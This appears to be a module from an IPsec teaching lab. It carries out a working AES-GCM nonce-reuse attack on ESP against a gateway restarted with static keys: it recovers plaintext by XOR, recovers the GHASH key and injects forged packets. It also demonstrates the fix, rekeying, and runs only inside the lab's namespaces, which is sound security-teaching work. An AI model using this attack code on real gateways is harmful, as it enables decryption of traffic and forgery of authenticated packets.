"""gcm-nonce-reuse: a gateway restarted with static GCM keys repeats its nonces.

AES-GCM in ESP (RFC 4106 §3-4) takes its nonce from the salt and the 8-byte IV, which the
sender must never repeat under one key; ipseclab, like most implementations, uses the
sequence number as the IV. With manual keys the key outlives the gateway: after a restart
the sequence numbers, and so the nonces, start again at 1 under the same key. Then:

1. the two ciphertexts under one nonce share their keystream (GCM is counter mode):
   C1 XOR C2 = P1 XOR P2, and a known P1 gives away P2;
2. the two tags share the mask E_K(J0): T1 + T2 is a polynomial in the hash key H known to
   the attacker (Joux 2006); its roots, found with :mod:`ipseclab.attacks.gf128`, include
   H, and a second pair of packets leaves H alone (the gcd of the two polynomials);
3. with H and the mask the attacker computes valid tags for any ciphertext under that
   nonce: it flips the known plaintext of a captured packet into its own message and the
   receiving gateway accepts the forgery (Böck, Zauner, Devlin, Somorovsky and Jovanovic,
   "Nonce-Disrespecting Adversaries: Practical Forgery Attacks on GCM in TLS", WOOT 2016).

RFC 4106's Security Considerations (§10) say it: GCM needs automated key management such as
IKE; static manual keys are unsafe. The fix is fresh keys for every SA, which IKE gives (new
KEYMAT per child SA, RFC 7296 §2.17). In the lab the recommended configuration stands for
that: after the restart both gateways load new keys (``*-rekeyed.xfrm``), so equal nonces no
longer mean an equal keystream or an equal mask; the XOR reveals nothing, no H is shared,
and gw2 counts the forgery as ``auth_failed``. (A gateway could also refuse to start twice
with one static GCM key, e.g. by keeping its sequence number on disk; ipseclab's does not.)

The attack targets only the lab's own hosts inside the topology's namespaces: h1 sends
status messages to h2 (10.2.0.10, UDP 9003), gw1 restarts, h1 sends secrets; mallory
records the ESP packets and injects the forgery from its own namespace.
"""

from __future__ import annotations

import random
import struct
from collections import defaultdict
from pathlib import Path
from typing import Any

from ipseclab.attacks import gf128
from ipseclab.attacks.common import (
    AttackResult,
    NodeTool,
    check_config,
    config_dir,
    maybe_lab,
    reconfigure,
    run_tool,
    sa_counters,
    send_udp,
    settle,
    total,
)
from ipseclab.attacks.inet import compensate, parse_esp, printable, xor

NAME = "gcm-nonce-reuse"
WEAK = "weak"  # static aes128gcm16 keys, the same after gw1 restarts
RECOMMENDED = "recommended"  # new keys after the restart (what IKE would bring)
PORT = 9003
IV_SIZE, ICV_SIZE = 8, 16
INNER_DATA = 28  # where the UDP data starts in the ESP plaintext: IPv4 (20) + UDP (8)
KNOWN = [b"status 1: all systems nominal; vault door LOCKED; pad=..",
         b"status 2: all systems nominal; vault door LOCKED; pad=.."]
SECRETS = [b"vault code for tonight: 4711-0815, tell nobody. --bob",
           b"and the alarm is off from 02:00 to 02:15 for cleaning"]
FORGED = b"status 1: all systems nominal; vault door OPEN!!; pad=.."
FORGED_SEQ = 1000


def split(packet: bytes) -> tuple[bytes, bytes, bytes, bytes]:
    """(AAD, IV, ciphertext, tag) of a captured ESP packet with a 16-byte GCM ICV."""
    esp = parse_esp(packet)
    aad = struct.pack("!II", esp.spi, esp.seq)
    return aad, esp.body[:IV_SIZE], esp.body[IV_SIZE:-ICV_SIZE], esp.body[-ICV_SIZE:]


def pairs(packets: list[bytes]) -> list[tuple[bytes, bytes]]:
    """Packets sent under the same nonce (IV), first and second, in capture order."""
    by_iv: dict[bytes, list[bytes]] = defaultdict(list)
    for p in packets:
        by_iv[split(p)[1]].append(p)
    return [(v[0], v[1]) for v in by_iv.values() if len(v) >= 2]


def recover_plaintext(known_packet: bytes, other: bytes, known: bytes) -> bytes:
    """The UDP data of ``other`` from a packet with known data under the same nonce."""
    c1, c2 = split(known_packet)[2], split(other)[2]
    start = INNER_DATA
    return xor(xor(c1[start:start + len(known)], c2[start:start + len(known)]), known)


def recover_h(pair_list: list[tuple[bytes, bytes]]) -> list[int]:
    """Candidates for H: roots of the gcd of every pair's tag polynomial."""
    common: gf128.Poly | None = None
    for first, second in pair_list:
        a1, _, c1, t1 = split(first)
        a2, _, c2, t2 = split(second)
        f = gf128.nonce_reuse_poly((a1, c1, t1), (a2, c2, t2))
        common = f if common is None else gf128.gcd(common, f)
    return gf128.roots(common) if common else []


def forge(packet: bytes, h: int, known: bytes, wanted: bytes, seq: int) -> bytes:
    """A packet under ``packet``'s nonce whose UDP data reads ``wanted`` instead of ``known``,
    with a fresh sequence number and a tag made with H.

    The last two bytes of ``wanted`` are changed so the UDP checksum (which mallory cannot
    read) still verifies: the one's-complement sum of the data stays the same.
    """
    wanted = compensate(known, wanted, len(wanted) - 2)
    aad, iv, ciphertext, tag = split(packet)
    mask = gf128.from_block(tag) ^ gf128.ghash(h, aad, ciphertext)  # E_K(J0)
    delta = bytes(INNER_DATA) + xor(known, wanted)
    new_ct = xor(ciphertext, delta + bytes(len(ciphertext) - len(delta)))
    new_aad = aad[:4] + struct.pack("!I", seq)
    new_tag = gf128.to_block(gf128.ghash(h, new_aad, new_ct) ^ mask)
    esp = parse_esp(packet)
    return type(esp)(esp.header, esp.spi, seq, iv + new_ct + new_tag).packet()


def run(lab: Any = None, config: str = WEAK, workdir: Path | None = None) -> AttackResult:
    """Known messages, a restart of gw1, secret messages; then XOR, H, and a forgery."""
    check_config(config)
    with maybe_lab(lab, NAME, config, workdir) as lab:
        listener = NodeTool(lab, "h2", "services", "listen", str(PORT), "30", timeout=35)
        sniffer = NodeTool(lab, "mallory", "mallory", "sniff", "eth0", "50", "4", "20",
                           "--dst", "198.51.100.2", timeout=25)
        try:
            send_udp(lab, "h1", "h2", PORT, KNOWN)
            if config == WEAK:
                lab.restart_gateway("gw1")
            else:
                directory = config_dir(NAME, config)
                reconfigure(lab, "gw1", directory / "gw1-rekeyed.xfrm")
                reconfigure(lab, "gw2", directory / "gw2-rekeyed.xfrm")
            send_udp(lab, "h1", "h2", PORT, SECRETS)
            captured = [bytes.fromhex(h) for h in sniffer.result()["packets"]]
            same_nonce = pairs(captured)
            recovered = [recover_plaintext(a, b, KNOWN[i])
                         for i, (a, b) in enumerate(same_nonce[:len(KNOWN)])]
            candidates = recover_h(same_nonce)
            h = candidates[0] if len(candidates) == 1 else random.getrandbits(128)
            if same_nonce:
                forged = forge(same_nonce[0][0], h, KNOWN[0], FORGED, FORGED_SEQ)
                run_tool(lab, "mallory", "mallory", "inject", forged.hex())
            settle(0.5)
            delivered = [bytes.fromhex(m["data"]) for m in listener.finish()["messages"]]
        finally:
            listener.stop()
            sniffer.stop()
        counters = sa_counters("gw2")
    forged_ok = any(m[:-2] == FORGED[:-2] for m in delivered)
    # The known messages are longer than the secrets: the rest of the XOR is padding.
    recovered = [r[:len(s)] for r, s in zip(recovered, SECRETS, strict=False)]
    read_ok = bool(recovered) and all(r == s for r, s in zip(recovered, SECRETS, strict=False))
    ok = forged_ok and read_ok and len(candidates) == 1
    details = {"captured": len(captured), "same_nonce_pairs": len(same_nonce),
               "recovered": [printable(r) for r in recovered],
               "h_candidates": [gf128.to_block(c).hex() for c in candidates],
               "h": gf128.to_block(candidates[0]).hex() if len(candidates) == 1 else None,
               "forged_delivered": forged_ok,
               "delivered": [printable(m) for m in delivered]}
    if ok:
        evidence = (f"{len(same_nonce)} pairs of ESP packets under the same key and nonce.\n"
                    f"  C1 XOR C2 XOR known status message gives the secret:"
                    f" {printable(recovered[0])!r}\n"
                    f"  GHASH key H (the only common root of the tag polynomials):"
                    f" {details['h']}\n"
                    f"  forged packet (seq {FORGED_SEQ}) accepted by gw2, h2 received:"
                    f" {printable(FORGED[:-2])!r}")
    else:
        evidence = (f"{len(same_nonce)} pairs of packets share a nonce, but the XOR gives"
                    f" {printable(recovered[0]) if recovered else 'nothing'!r}, H candidates:"
                    f" {len(candidates)}; the forgery was"
                    f" {'accepted' if forged_ok else 'rejected'}"
                    f" ({total(counters, 'auth_failed')} ICV failures at gw2)")
    return AttackResult(NAME, config, ok, evidence, details=details, counters=counters)
